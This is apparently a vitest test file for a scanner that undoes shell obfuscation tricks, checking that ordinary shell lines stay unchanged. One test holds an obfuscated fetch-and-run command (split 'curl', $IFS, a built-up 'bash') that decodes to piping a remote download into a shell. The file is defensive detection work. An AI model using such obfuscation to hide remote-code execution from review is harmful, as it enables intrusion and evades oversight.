/** What a shell's own quoting has a reason for is no trick. */
import { describe, expect, it } from "vitest";
import { SHELL_TRICKS } from "../../../src/core/scan/shell-tricks.ts";

function undone(text: string): string {
  return SHELL_TRICKS.filter(({ languages }) => languages?.includes("sh")).reduce(
    (plain, trick) =>
      plain.replace(trick.pattern, (...match) => trick.plain(match as unknown as RegExpExecArray) ?? ""),
    text,
  );
}

describe("a shell's honest line stays as it is", () => {
  it.each([
    'grep -E "^a" "$1" | sort',
    "curl -s \\\n  https://a.example/x",
    "printf 'a\\n'",
    'echo "$HOME" "$2"',
    "cp a.{js,ts} b",
    "awk '{print $1}' x",
    "find . -name '*.md'",
  ])("%j", (line) => {
    expect(undone(line)).toBe(line);
  });
});

it("undoes several in one line", () => {
  expect(undone("c\\url$IFS'http://a' | $(echo ba)'s'h")).toBe("curl 'http://a' | bash");
});
